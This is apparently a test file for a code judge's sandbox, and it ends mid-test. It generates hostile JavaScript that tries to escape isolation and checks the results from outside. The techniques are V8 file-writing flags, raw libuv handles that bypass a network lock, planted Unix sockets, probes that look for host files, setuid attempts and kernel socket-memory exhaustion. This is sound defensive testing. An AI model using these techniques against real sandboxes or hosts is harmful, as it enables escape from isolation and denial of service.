/**
 * Hostile solutions whose effect is checked from OUTSIDE the sandbox: files V8 or a listening socket
 * might leave on the host, servers on the host's loopback, the user ids the sandbox's processes run
 * as, the kernel memory it holds, and processes that outlive their judgment.
 *
 * Each solution needs values only known while the test runs (a host folder, a port), so its source
 * is generated here into a temporary folder and judged from there. The sources are plain JavaScript
 * that is also valid TypeScript, so a few of them also run under plain Node, outside any sandbox, as
 * a control: that proves the attack does what it claims wherever nothing stops it.
 */
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { existsSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { judgeSolution } from '../../src/judge/judge.ts';
import { VERDICTS, type Judgment } from '../../src/judge/verdict.ts';
import { loadHiddenCases, loadProblem, type Case, type Problem } from '../../src/problem/load.ts';
import { FIXTURE_WORKSPACE, temporaryFolder } from '../helpers.ts';

/** Solutions are written here; each judgment gets its own cache folder under `caches`. */
const sources = temporaryFolder('kata-outside-src-');
const caches = temporaryFolder('kata-outside-cache-');

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
/** Hex only: no random name can spell a word a test looks for (such as "found"). */
const token = () => randomBytes(6).toString('hex');
const MB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Watching the sandbox's processes from outside, through /proc.
// ---------------------------------------------------------------------------------------------

interface ProcessInfo {
  pid: number;
  /** Field 22 of /proc/<pid>/stat: tells a process from a later one that reuses its pid. */
  start: string;
  state: string;
}

function readProcess(pid: number): ProcessInfo | null {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
    return { pid, state: fields[0] ?? '?', start: fields[19] ?? '?' };
  } catch {
    return null;
  }
}

function commandLine(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
  } catch {
    return '';
  }
}

function allPids(): number[] {
  return readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map(Number);
}

function childrenOf(pid: number): number[] {
  const children: number[] = [];
  try {
    for (const task of readdirSync(`/proc/${pid}/task`)) {
      const text = readFileSync(`/proc/${pid}/task/${task}/children`, 'utf8').trim();
      if (text) children.push(...text.split(/\s+/).map(Number));
    }
  } catch {
    // gone already
  }
  return children;
}

/** Real, effective, saved and filesystem user and group ids, as the host sees them. */
function idsOf(pid: number): number[] {
  try {
    const status = readFileSync(`/proc/${pid}/status`, 'utf8');
    const uid = /^Uid:\s+(.*)$/m.exec(status)?.[1] ?? '';
    const gid = /^Gid:\s+(.*)$/m.exec(status)?.[1] ?? '';
    return `${uid} ${gid}`.trim().split(/\s+/).map(Number);
  } catch {
    return [];
  }
}

function socketCount(pid: number): number {
  try {
    return readdirSync(`/proc/${pid}/fd`).filter((fd) => {
      try {
        return readlinkSync(`/proc/${pid}/fd/${fd}`).startsWith('socket:');
      } catch {
        return false;
      }
    }).length;
  } catch {
    return 0;
  }
}

/** The kernel's memory for TCP buffers, machine-wide (the "mem" pages of /proc/net/sockstat). */
function tcpMemoryBytes(): number {
  try {
    return Number(/^TCP:.*\smem (\d+)/m.exec(readFileSync('/proc/net/sockstat', 'utf8'))?.[1] ?? 0) * 4096;
  } catch {
    return 0;
  }
}

/** Processes whose command line names this folder, zombies aside. */
function processesNaming(marker: string): ProcessInfo[] {
  return allPids()
    .filter((pid) => pid !== process.pid && commandLine(pid).includes(marker))
    .map(readProcess)
    .filter((info): info is ProcessInfo => info !== null && info.state !== 'Z' && info.state !== 'X');
}

interface WatchReport {
  /**
   * The sandbox's processes: those whose command line names the harness in the cache folder
   * (prlimit, which becomes bubblewrap, and Node), and every descendant of theirs.
   */
  sandbox: ProcessInfo[];
  /** Every other process naming the cache folder: the judge's own helpers, such as its compiler. */
  helpers: ProcessInfo[];
  /** User and group ids the sandbox's processes ran with, as the host sees them. */
  ids: Set<number>;
  /** The most sockets one sandbox process held at once. */
  maxSockets: number;
  tcpGrowthBytes: number;
  judgeRssGrowthBytes: number;
}

/** Samples the processes of one judgment (named by its cache folder) every 20 ms while it runs. */
function watch(marker: string): { stop: () => WatchReport } {
  const sandbox = new Map<number, ProcessInfo>();
  const helpers = new Map<number, ProcessInfo>();
  const ids = new Set<number>();
  let maxSockets = 0;
  const tcpBase = tcpMemoryBytes();
  let tcpPeak = tcpBase;
  const rssBase = process.memoryUsage.rss();
  let rssPeak = rssBase;
  const track = (into: Map<number, ProcessInfo>, pid: number) => {
    const info = readProcess(pid);
    if (info) into.set(pid, info);
  };
  const sample = () => {
    for (const pid of allPids()) {
      if (pid === process.pid || sandbox.has(pid)) continue;
      const command = commandLine(pid);
      if (!command.includes(marker)) continue;
      if (command.includes('harness.mjs')) {
        helpers.delete(pid);
        track(sandbox, pid);
      } else if (!helpers.has(pid)) {
        track(helpers, pid);
      }
    }
    for (let grew = true; grew; ) {
      grew = false;
      for (const pid of [...sandbox.keys()]) {
        for (const child of childrenOf(pid)) {
          if (!sandbox.has(child)) {
            track(sandbox, child);
            grew = true;
          }
        }
      }
    }
    for (const { pid, start } of sandbox.values()) {
      if (readProcess(pid)?.start !== start) continue;
      for (const id of idsOf(pid)) ids.add(id);
      maxSockets = Math.max(maxSockets, socketCount(pid));
    }
    tcpPeak = Math.max(tcpPeak, tcpMemoryBytes());
    rssPeak = Math.max(rssPeak, process.memoryUsage.rss());
  };
  const timer = setInterval(sample, 20);
  return {
    stop: () => {
      clearInterval(timer);
      sample();
      return {
        sandbox: [...sandbox.values()],
        helpers: [...helpers.values()],
        ids,
        maxSockets,
        tcpGrowthBytes: tcpPeak - tcpBase,
        judgeRssGrowthBytes: rssPeak - rssBase,
      };
    },
  };
}

/** Waits up to a second for the processes to be reaped; returns those still running (zombies aside). */
async function survivors(marker: string, seen: readonly ProcessInfo[]): Promise<string[]> {
  let left: string[] = [];
  for (const deadline = performance.now() + 1000; ; ) {
    const alive = seen.filter(({ pid, start }) => {
      const now = readProcess(pid);
      return now !== null && now.start === start && now.state !== 'Z' && now.state !== 'X';
    });
    const named = processesNaming(marker).filter((info) => !alive.some((a) => a.pid === info.pid));
    left = [...alive, ...named].map(({ pid, state }) => `${pid} (${state}) ${commandLine(pid).split('\0').join(' ').slice(0, 200)}`);
    if (left.length === 0 || performance.now() > deadline) return left;
    await sleep(50);
  }
}

// ---------------------------------------------------------------------------------------------
// Judging a generated solution.
// ---------------------------------------------------------------------------------------------

const ADD = loadProblem(FIXTURE_WORKSPACE, 'add');
const ADD_CASES: Case[] = [...ADD.examples, ...loadHiddenCases(FIXTURE_WORKSPACE, ADD)];

interface Judged {
  judgment: Judgment;
  watched: WatchReport;
}

/** Writes the source, judges it while watching its processes, and checks none outlives the judgment. */
async function judgeSource(name: string, source: string, options: { problem?: Problem; cases?: readonly Case[]; onCase?: () => void } = {}): Promise<Judged> {
  const problem = options.problem ?? ADD;
  const file = join(sources, `${name}.ts`);
  writeFileSync(file, `// problem: ${problem.slug}\n${source}`);
  const cacheDir = mkdtempSync(join(caches, `${name}-`));
  const watcher = watch(cacheDir);
  let judgment: Judgment;
  let watched: WatchReport;
  try {
    // The judge never throws, whatever the solution does: a rejection fails the test here.
    judgment = await judgeSolution({
      problem,
      cases: options.cases ?? ADD_CASES,
      solutionFile: file,
      solutionLabel: `outside/${name}.ts`,
      cacheDir,
      ...(options.onCase && { onCase: options.onCase }),
    });
  } finally {
    // Stopped even when judging failed, so no interval keeps the test file alive.
    watched = watcher.stop();
  }
  expect(VERDICTS as readonly string[]).toContain(judgment.verdict);
  // A solution that did not even compile would make its attack vacuous.
  expect(judgment.verdict, `${name}: ${judgment.message ?? ''}`).not.toBe('CE');
  expect(watched.sandbox.length, `${name}: the watcher never saw the sandbox's processes`).toBeGreaterThan(0);
  // 7. No process outlives its judgment: not the sandbox's, nor any other naming its cache folder.
  expect(await survivors(cacheDir, [...watched.sandbox, ...watched.helpers]), `${name}: processes left running after the judgment`).toEqual([]);
  return { judgment, watched };
}

/**
 * A copy of what the harness does to the network in JavaScript (at the time of writing), for the
 * controls: with it in place, the routes around it must still reach the host's servers.
 */
const JS_NETWORK_LOCK = `
import net from 'node:net';
import dgram from 'node:dgram';
import dns from 'node:dns';
import { syncBuiltinESMExports } from 'node:module';
const refuse = (target, name) => Object.defineProperty(target, name, { value: () => { throw new Error('not available to solutions'); }, writable: false, configurable: false });
refuse(net.Socket.prototype, 'connect');
refuse(net.Server.prototype, 'listen');
for (const name of ['bind', 'send', 'connect']) refuse(dgram.Socket.prototype, name);
for (const name of ['lookup', 'resolve', 'resolve4', 'resolve6']) refuse(dns, name);
syncBuiltinESMExports();
`;

/**
 * Runs a solution's source under plain Node, outside any sandbox, and prints add(1, 2): the control.
 * Its stdin is a pipe, as in the sandbox. With `locked`, the network is first locked as above.
 */
async function runUnsandboxed(name: string, source: string, options: { locked?: boolean } = {}): Promise<{ code: number | null; output: string }> {
  const dir = mkdtempSync(join(sources, 'control-'));
  writeFileSync(join(dir, `${name}.mjs`), source);
  const driver = join(dir, 'run.mjs');
  writeFileSync(driver, `${options.locked ? JS_NETWORK_LOCK : ''}\nconst { add } = await import('./${name}.mjs');\nconsole.log('add(1, 2) =', await add(1, 2));\nprocess.exit(0);\n`);
  const child = spawn(process.execPath, [driver], { cwd: dir, stdio: ['pipe', 'pipe', 'pipe'] });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
  child.stderr.on('data', (chunk: Buffer) => (output += chunk.toString('utf8')));
  const killer = setTimeout(() => child.kill('SIGKILL'), 8000);
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve));
  clearTimeout(killer);
  return { code, output };
}

function listing(dir: string): string[] {
  try {
    return readdirSync(dir).sort();
  } catch {
    return [];
  }
}

function allMessages(judgment: Judgment): string[] {
  return [judgment.message ?? '', ...judgment.cases.map((result) => result.message ?? '')];
}

function listen(server: net.Server, ...args: unknown[]): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    (server.listen as (...a: unknown[]) => void)(...args, () => resolve());
  });
}

const closers: (() => void)[] = [];
afterAll(() => {
  for (const close of closers) close();
});

/** Names that V8 or Node would write on their own (turbo-*.json, perf-<pid>.map, isolate logs). */
const V8_OUTPUT = /^(turbo|perf-\d+\.map|isolate-|v8\.log|code-trace|.*\.cfg$)/;

// ---------------------------------------------------------------------------------------------
// The attacks.
// ---------------------------------------------------------------------------------------------

/** 1. Flags that make V8 itself write files, outside Node's permission model; then TurboFan work. */
function v8FlagsSource(dir: string): string {
  return `
import * as v8Namespace from 'node:v8';
import v8Default from 'node:v8';
import { createRequire } from 'node:module';
const DIR = ${JSON.stringify(dir)};
const FLAGS = [
  '--trace-turbo-cfg-file=' + DIR + '/cfg.txt',
  '--trace-turbo',
  '--trace-turbo-path=' + DIR,
  '--trace-turbo-graph',
  '--redirect-code-traces',
  '--redirect-code-traces-to=' + DIR + '/code-trace.txt',
];
const routes = [
  () => v8Default.setFlagsFromString,
  () => v8Namespace.setFlagsFromString,
  () => createRequire(import.meta.url)('node:v8').setFlagsFromString,
  () => process.binding('v8').setFlagsFromString,
];
for (const route of routes) {
  for (const flag of FLAGS) {
    try {
      route()(flag);
    } catch {
      // refused: try the next
    }
  }
}
function hot(x) {
  let s = 0;
  for (let i = 0; i < 2000; i++) s = (s + ((x * i) ^ (s >>> 3))) % 1000003;
  return s;
}
function spin(ms) {
  let t = 0;
  const end = Date.now() + ms;
  while (Date.now() < end) t = (t + hot(t & 1023)) % 1000003;
  return t;
}
spin(400);
export function add(a, b) {
  spin(30);
  return a + b;
}
`;
}

/**
 * Shared by the network attacks: every way to listen and connect, for when the harness removes
 * `listen`, `connect` and `send` in JavaScript. Node's internal alias of `listen` (`_listen2`), and
 * raw libuv handles, whose constructors hang off handles the process already has (its stdin is a
 * pipe) or can make; another handle object serves as the request a raw `connect` needs.
 */
const NET_ROUTES = `
const RAW = {};
try {
  RAW.Pipe = (process.stdin._handle || process.stdout._handle).constructor;
} catch {}
try {
  const probe = net.createServer();
  probe._listen2('127.0.0.1', 0, 4, 511);
  RAW.TCP = probe._handle.constructor;
  probe.close();
} catch {}
const rawHandles = [];
/** Listens on a path (a socket file, or an abstract name) or { port, host }; true when it does. */
function listenOn(server, where) {
  try {
    server.listen(where);
    return true;
  } catch {}
  try {
    if (typeof where === 'string') server._listen2(where, -1, -1, 511);
    else server._listen2(where.host, where.port, where.host.includes(':') ? 6 : 4, 511);
    if (server._handle) return true;
  } catch {}
  try {
    if (typeof where !== 'string') return false;
    const pipe = new RAW.Pipe(1);
    rawHandles.push(pipe);
    return pipe.bind(where) === 0 && pipe.listen(511) === 0;
  } catch {
    return false;
  }
}
/** Connects without net.Socket#connect: 'connected' (and the handle), or what went wrong. */
function rawConnect(where, ms) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve({ code: 'timeout' }), ms);
    const done = (result) => {
      clearTimeout(timer);
      resolve(result);
    };
    try {
      const Handle = typeof where === 'string' ? RAW.Pipe : RAW.TCP;
      const handle = new Handle(0);
      const request = new Handle(0);
      rawHandles.push(handle, request);
      request.oncomplete = (status) => done(status === 0 ? { code: 'connected', handle } : { code: 'errno' + status });
      const error =
        typeof where === 'string'
          ? handle.connect(request, where)
          : where.host.includes(':')
            ? handle.connect6(request, where.host, where.port)
            : handle.connect(request, where.host, where.port);
      if (error) done({ code: 'errno' + error });
    } catch {
      done({ code: 'threw' });
    }
  });
}
/** Connects by any route: net.connect first, then a raw handle. Resolves with a code. */
function connectAny(where, ms) {
  return new Promise((resolve) => {
    let socket;
    const timer = setTimeout(() => finish('timeout'), ms);
    function finish(code) {
      clearTimeout(timer);
      try {
        socket && socket.destroy();
      } catch {}
      resolve(code);
    }
    try {
      socket = net.connect(where, () => {
        socket.write('hello from the sandbox');
        setTimeout(() => finish('connected'), 20);
      });
      socket.on('error', (error) => finish(String(error.code)));
    } catch {
      clearTimeout(timer);
      rawConnect(where, ms).then((result) => resolve(result.code));
    }
  });
}
/** Sends one datagram by any route: dgram's send, then the socket's raw UDP handle. */
function sendAny(type, host, port) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve('timeout'), 400);
    const done = (code) => {
      clearTimeout(timer);
      resolve(code);
    };
    let socket;
    try {
      socket = dgram.createSocket(type);
      socket.on('error', (error) => done(String(error.code)));
      socket.send('hello from the sandbox', port, host, (error) => done(error ? String(error.code) : 'sent'));
      return;
    } catch {}
    try {
      const state = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((value) => value && value.handle);
      const handle = state.handle;
      handle.bind(type === 'udp6' ? '::' : '0.0.0.0', 0, 0);
      const request = new handle.constructor();
      request.oncomplete = () => undefined;
      rawHandles.push(handle, request);
      const sent = handle.send(request, [Buffer.from('hello from the sandbox')], 1, port, host, false);
      done(typeof sent === 'number' && sent >= 0 ? 'sent' : 'errno' + sent);
    } catch {
      done('threw');
    }
  });
}
`;

/** 2. A listening Unix socket leaves a file behind, and Node's permission model does not cover sockets. */
function plantSocketSource(paths: string[]): string {
  return `
import net from 'node:net';
import dgram from 'node:dgram';
${NET_ROUTES}
const PATHS = ${JSON.stringify(paths)};
const keep = [];
for (const path of PATHS) {
  // Each route on its own, so that one refused does not hide another.
  for (const route of ['listen', '_listen2', 'raw']) {
    try {
      const server = net.createServer();
      server.on('error', () => undefined);
      keep.push(server);
      if (route === 'listen') server.listen(path);
      else if (route === '_listen2') server._listen2(path, -1, -1, 511);
      else {
        const pipe = new RAW.Pipe(1);
        keep.push(pipe);
        pipe.bind(path);
        pipe.listen(511);
      }
    } catch {
      // refused
    }
  }
}
await new Promise((resolve) => setTimeout(resolve, 200));
export function add(a, b) {
  return a + b;
}
`;
}

interface Markers {
  tmpFile: string;
  tmpDir: string;
  tmpSock: string;
  hostFile: string;
  hostSock: string;
  relSock: string;
  abstract: string;
  port: number;
}

/** 3a. Leaves markers for a later (or concurrent) solution to find; `holdMs` keeps each case busy. */
function plantMarkersSource(markers: Markers, holdMs: number): string {
  return `
import fs from 'node:fs';
import net from 'node:net';
import dgram from 'node:dgram';
${NET_ROUTES}
const M = ${JSON.stringify(markers)};
const keep = [];
const attempt = (f) => {
  try {
    f();
  } catch {
    // refused
  }
};
attempt(() => fs.writeFileSync(M.tmpFile, 'marker'));
attempt(() => fs.mkdirSync(M.tmpDir));
attempt(() => fs.writeFileSync(M.hostFile, 'marker'));
for (const where of [M.tmpSock, M.hostSock, M.relSock, M.abstract, { port: M.port, host: '127.0.0.1' }]) {
  attempt(() => {
    const server = net.createServer((socket) => socket.destroy());
    server.on('error', () => undefined);
    keep.push(server);
    listenOn(server, where);
  });
}
await new Promise((resolve) => setTimeout(resolve, 150));
const hold = new Int32Array(new SharedArrayBuffer(4));
export function add(a, b) {
  if (${holdMs} > 0) Atomics.wait(hold, 0, 0, ${holdMs});
  return a + b;
}
`;
}

/**
 * 3b. Looks for the markers, and for host files it should not see, with every existence test at hand:
 * existsSync, realpathSync (Node's JavaScript version walks paths with lstat the permission model does
 * not check; the harness may swap in the native one), its native version, stat, lstat, access, the
 * module resolvers (require.resolve, and the error codes of require and import), and connecting to
 * sockets. An answer or error code that differs from that for a path next to it that never existed
 * also counts as found. It throws on every call with a message saying what it found, which an
 * example case shows.
 */
function probeSource(files: Record<string, string>, sockets: Record<string, string>, port: number): string {
  return `
import fs from 'node:fs';
import net from 'node:net';
import dgram from 'node:dgram';
import { createRequire } from 'node:module';
${NET_ROUTES}
const FILES = ${JSON.stringify(files)};
const SOCKETS = ${JSON.stringify(sockets)};
const PORT = ${port};
const require = createRequire(import.meta.url);
async function codeOf(f) {
  try {
    await f();
    return 'ok';
  } catch (error) {
    return String(error && error.code);
  }
}
async function look(path) {
  const tests = [
    () => {
      if (!fs.existsSync(path)) throw Object.assign(new Error('no'), { code: 'FALSE' });
    },
    () => fs.realpathSync(path),
    () => fs.realpathSync.native(path),
    () => fs.promises.realpath(path),
    () => fs.statSync(path),
    () => fs.lstatSync(path),
    () => fs.accessSync(path),
    () => require.resolve(path),
    () => require(path),
    () => import('file://' + (path.startsWith('/') ? path : process.cwd() + '/' + path)),
  ];
  const codes = [];
  for (const test of tests) codes.push(await codeOf(test));
  return codes;
}
async function fileResult(path) {
  const seen = await look(path);
  const control = await look(path + '-never-made');
  return seen.some((code, i) => code === 'ok' || code !== control[i]) ? 'found' : 'absent';
}
async function socketResult(path) {
  const [seen, control] = await Promise.all([connectAny(path, 300), connectAny(path + '-never-made', 300)]);
  const [rawSeen, rawControl] = await Promise.all([rawConnect(path, 300), rawConnect(path + '-never-made', 300)]);
  return seen === 'connected' || rawSeen.code === 'connected' || seen !== control || rawSeen.code !== rawControl.code ? 'found' : 'absent';
}
const results = [];
for (const [label, path] of Object.entries(FILES)) results.push(label + '=' + (await fileResult(path)));
for (const [label, path] of Object.entries(SOCKETS)) results.push(label + '=' + (await socketResult(path)));
const where = { port: PORT, host: '127.0.0.1' };
const tcp = (await connectAny(where, 300)) === 'connected' || (await rawConnect(where, 300)).code === 'connected';
results.push('tcp=' + (tcp ? 'found' : 'absent'));
const report = 'probe: ' + results.join(' ');
export function add(a, b) {
  throw new Error(report);
}
`;
}

/** 4. Reaching the host over loopback: TCP, Unix and abstract sockets, UDP, and a DNS lookup. */
function loopbackSource(target: { port: number; udpPort: number; unixPath: string; abstract: string }): string {
  return `
import net from 'node:net';
import dgram from 'node:dgram';
import dns from 'node:dns';
${NET_ROUTES}
const T = ${JSON.stringify(target)};
function lookup(name) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve([]), 400);
    try {
      dns.lookup(name, { all: true }, (error, addresses) => {
        clearTimeout(timer);
        resolve(error ? [] : addresses.map((a) => a.address));
      });
    } catch {
      clearTimeout(timer);
      resolve([]);
    }
  });
}
const resolved = await lookup('localhost');
const hosts = [...new Set(['127.0.0.1', '::1', '0.0.0.0', ...resolved])];
await Promise.all([
  connectAny({ port: T.port, host: 'localhost' }, 400),
  ...hosts.map((host) => connectAny({ port: T.port, host }, 400)),
  ...hosts.map((host) => rawConnect({ port: T.port, host }, 400)),
  connectAny(T.unixPath, 400),
  rawConnect(T.unixPath, 400),
  connectAny(T.abstract, 400),
  rawConnect(T.abstract, 400),
  sendAny('udp4', '127.0.0.1', T.udpPort),
  sendAny('udp4', '127.0.0.1', T.port),
  sendAny('udp6', '::1', T.udpPort),
  ...resolved.map((address) => sendAny(address.includes(':') ? 'udp6' : 'udp4', address, T.udpPort)),
]);
export function add(a, b) {
  return a + b;
}
`;
}

/** 5. Changing user or group ids: a+b only when every attempt threw and no id changed. */
const SETUID_SOURCE = `
const ids = () => [process.getuid(), process.geteuid(), process.getgid(), process.getegid()].join(',');
function attempts() {
  const before = ids();
  const tries = [
    () => process.setuid(0),
    () => process.setuid(1000),
    () => process.seteuid(0),
    () => process.seteuid(1000),
    () => process.setgid(0),
    () => process.setegid(0),
    () => process.setgroups([0]),
    () => process.initgroups('root', 0),
    () => process.binding('credentials').setuid(0),
  ];
  let refused = 0;
  for (const attempt of tries) {
    try {
      attempt();
    } catch {
      refused++;
    }
  }
  return refused === tries.length && ids() === before;
}
const refusedAtLoad = attempts();
export function add(a, b) {
  return refusedAtLoad && attempts() ? a + b : a + b + 1;
}
`;

/** The kernel memory attack aims at this much; the add problem allows 256 MB. */
const SOCKET_MEMORY_TARGET = 500 * MB;

/**
 * 6. Memory the kernel holds for sockets is not the process's resident memory. Unix socket pairs
 * (through a server on a path in the sandbox's /tmp) and TCP pairs on the sandbox's own loopback,
 * by any route that works, streamed for a while so that TCP grows its buffers, then filled without
 * reading, for about 3 s in all. The same 64 KiB buffer is written again and again, so the process's
 * own memory stays small.
 */
const SOCKET_MEMORY_SOURCE = `
import net from 'node:net';
import dgram from 'node:dgram';
import os from 'node:os';
${NET_ROUTES}
const TARGET = ${SOCKET_MEMORY_TARGET};
const deadline = Date.now() + 3000;
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const sockets = [];
let fillFrom = 0;
const written = () => sockets.reduce((sum, s) => sum + s.bytesWritten - s.writableLength, 0);
function serve(where) {
  const server = net.createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    sockets.push(socket);
  });
  server.on('error', () => undefined);
  return listenOn(server, where) && server._handle ? server : null;
}
const UNIX_PATH = os.tmpdir() + '/kata-fill.sock';
const unix = serve(UNIX_PATH);
const tcp = serve({ port: 0, host: '127.0.0.1' });
await sleep(20);
function adopt(socket) {
  socket.on('error', () => undefined);
  socket.on('data', () => undefined);
  sockets.push(socket);
  return true;
}
function connect(i) {
  const where = i % 4 === 0 && unix ? UNIX_PATH : tcp ? { port: tcp.address().port, host: '127.0.0.1' } : null;
  if (where === null) return Promise.resolve(false);
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(false), 300);
    try {
      const socket = net.connect(where, () => {
        clearTimeout(timer);
        resolve(adopt(socket));
      });
      socket.on('error', () => {
        clearTimeout(timer);
        resolve(false);
      });
    } catch {
      rawConnect(where, 300).then((result) => {
        clearTimeout(timer);
        resolve(result.code === 'connected' && adopt(new net.Socket({ handle: result.handle, readable: true, writable: true })));
      });
    }
  });
}
const connectUntil = Date.now() + 600;
for (let i = 0; i < 1000 && Date.now() < connectUntil; i++) {
  let ok = false;
  try {
    ok = await connect(i);
  } catch {}
  if (!ok) break;
}
await sleep(20);
const chunk = Buffer.alloc(64 * 1024, 7);
// Streaming with reads lets TCP grow its buffers; then nothing is read any more.
for (const until = Date.now() + 700; Date.now() < until; await sleep(0)) {
  for (const socket of sockets) if (!socket.destroyed && socket.writableLength < chunk.length) socket.write(chunk);
}
for (const socket of sockets) {
  socket.pause();
  socket.removeAllListeners('data');
}
fillFrom = written();
async function fill(ms) {
  for (const until = Math.min(deadline, Date.now() + ms); Date.now() < until && written() - fillFrom < TARGET; await sleep(5)) {
    for (const socket of sockets) {
      for (let n = 0; n < 64 && !socket.destroyed && socket.writableLength === 0; n++) socket.write(chunk);
    }
  }
}
await fill(500);
export async function add(a, b) {
  await fill(150);
  return a + b;
}
`;
// ---------------------------------------------------------------------------------------------

describe('hostile solutions, checked from outside the sandbox', () => {
  it('V8 flags cannot make V8 write files on the host', async () => {
    const host = temporaryFolder('kata-outside-v8-');
    const target = join(host, 'cfg.txt');
    const before = { host: listing(host), tmp: listing(tmpdir()).filter((n) => V8_OUTPUT.test(n)), cwd: listing(process.cwd()).filter((n) => V8_OUTPUT.test(n)) };

    // Control: the same source under plain Node writes the file.
    const controlDir = temporaryFolder('kata-outside-v8-control-');
    const control = await runUnsandboxed('v8-flags', v8FlagsSource(controlDir));
    expect(control.code, control.output).toBe(0);
    expect(existsSync(join(controlDir, 'cfg.txt')), `control wrote nothing: ${listing(controlDir).join(', ')}`).toBe(true);

    const { judgment } = await judgeSource('v8-flags', v8FlagsSource(host));
    expect(existsSync(target), `${target} was written`).toBe(false);
    expect(listing(host)).toEqual(before.host);
    expect(listing(tmpdir()).filter((n) => V8_OUTPUT.test(n))).toEqual(before.tmp);
    expect(listing(process.cwd()).filter((n) => V8_OUTPUT.test(n))).toEqual(before.cwd);
  });

  it('a listening Unix socket plants no file on the host', async () => {
    const host = temporaryFolder('kata-outside-sock-');
    const id = token();
    const hostPath = join(host, 'planted.sock');
    const tmpPath = join(tmpdir(), `kata-outside-planted-${id}.sock`);
    const relative = `kata-outside-planted-${id}-rel.sock`;
    closers.push(() => rmSync(tmpPath, { force: true }), () => rmSync(join(process.cwd(), relative), { force: true }));

    // Control: under plain Node, with the network locked in JavaScript as the harness does, the file appears.
    const controlDir = temporaryFolder('kata-outside-sock-control-');
    const control = await runUnsandboxed('plant-socket', plantSocketSource([join(controlDir, 'planted.sock')]), { locked: true });
    expect(control.code, control.output).toBe(0);
    expect(listing(controlDir), 'the control planted nothing').toEqual(['planted.sock']);

    await judgeSource('plant-socket', plantSocketSource([hostPath, tmpPath, relative]));
    expect(existsSync(hostPath), `${hostPath} was planted`).toBe(false);
    expect(listing(host)).toEqual([]);
    expect(existsSync(tmpPath), `${tmpPath} was planted`).toBe(false);
    expect(existsSync(join(process.cwd(), relative))).toBe(false);
    expect(existsSync(join(tmpdir(), relative))).toBe(false);
  });

  describe('what one solution leaves, another cannot see', () => {
    function setUp() {
      const host = temporaryFolder('kata-outside-mark-');
      const id = token();
      const markers: Markers = {
        tmpFile: `/tmp/kata-outside-mark-${id}`,
        tmpDir: `/tmp/kata-outside-mark-${id}-dir`,
        tmpSock: `/tmp/kata-outside-mark-${id}.sock`,
        hostFile: join(host, 'marker'),
        hostSock: join(host, 'marker.sock'),
        relSock: `kata-outside-mark-${id}-rel.sock`,
        abstract: `\0kata-outside-mark-${id}`,
        port: 0,
      };
      closers.push(() => {
        for (const path of [markers.tmpFile, markers.tmpDir, markers.tmpSock, join(process.cwd(), markers.relSock)]) rmSync(path, { recursive: true, force: true });
      });
      // A file only the host has: a sandbox that sees it sees the host's /tmp.
      const hostOnly = join(host, 'host-only');
      writeFileSync(hostOnly, 'the host made this');
      const files = {
        tmpFile: markers.tmpFile,
        tmpDir: markers.tmpDir,
        tmpSock: markers.tmpSock,
        hostFile: markers.hostFile,
        hostSock: markers.hostSock,
        relSock: markers.relSock,
        hostOnly,
        hidden: join(FIXTURE_WORKSPACE, 'problems', 'add', 'hidden.json'),
      };
      const sockets = { tmpSockConnect: markers.tmpSock, hostSockConnect: markers.hostSock, relSockConnect: markers.relSock, abstractConnect: markers.abstract };
      return { host, markers, files, sockets, hostOnly };
    }

    function expectNothingFound(probe: Judgment): void {
      const messages = allMessages(probe);
      // The probe ran and reported (an example case shows its message) ...
      expect(messages.some((message) => message.includes('probe:')), messages.join('\n')).toBe(true);
      // ... and found nothing.
      for (const message of messages) expect(message).not.toContain('found');
    }

    function expectNoMarkersOnHost(host: string, markers: Markers): void {
      expect(listing(host)).toEqual(['host-only']);
      for (const path of [markers.tmpFile, markers.tmpDir, markers.tmpSock, join(process.cwd(), markers.relSock), join(tmpdir(), markers.relSock)]) {
        expect(existsSync(path), `${path} exists on the host`).toBe(false);
      }
    }

    it('in a later judgment', async () => {
      const { host, markers, files, sockets } = setUp();
      markers.port = await freePort();
      await judgeSource('plant-markers', plantMarkersSource(markers, 0));
      expectNoMarkersOnHost(host, markers);
      const { judgment: probe } = await judgeSource('probe-markers', probeSource(files, sockets, markers.port));
      expect(probe.verdict).toBe('RE');
      expectNothingFound(probe);
    });

    it('in a judgment running at the same time', async () => {
      const { host, markers, files, sockets } = setUp();
      markers.port = await freePort();
      // The planter keeps its sandbox alive for about 3 s; the probe starts once the planter has loaded.
      const cases: Case[] = Array.from({ length: 24 }, (_, i) => ({ ...ADD.examples[0]!, id: `example-hold-${i + 1}` }));
      let planterLoaded!: () => void;
      const loaded = new Promise<void>((resolve) => (planterLoaded = resolve));
      let planterDone = false;
      const planter = judgeSource('plant-markers-held', plantMarkersSource(markers, 120), { cases, onCase: () => planterLoaded() }).finally(() => (planterDone = true));
      await Promise.race([loaded, planter]);
      const { judgment: probe } = await judgeSource('probe-markers-concurrent', probeSource(files, sockets, markers.port));
      // Otherwise this test would not test what it says.
      expect(planterDone, 'the planter finished before the probe did').toBe(false);
      await planter;
      expect(probe.verdict).toBe('RE');
      expectNothingFound(probe);
      expectNoMarkersOnHost(host, markers);
    });
  });

  it("cannot reach the host's loopback: TCP, Unix and abstract sockets, UDP", async () => {
    const host = temporaryFolder('kata-outside-net-');
    const counts = { tcp: 0, unix: 0, abstract: 0, udp: 0 };
    const server = (kind: 'tcp' | 'unix' | 'abstract') => {
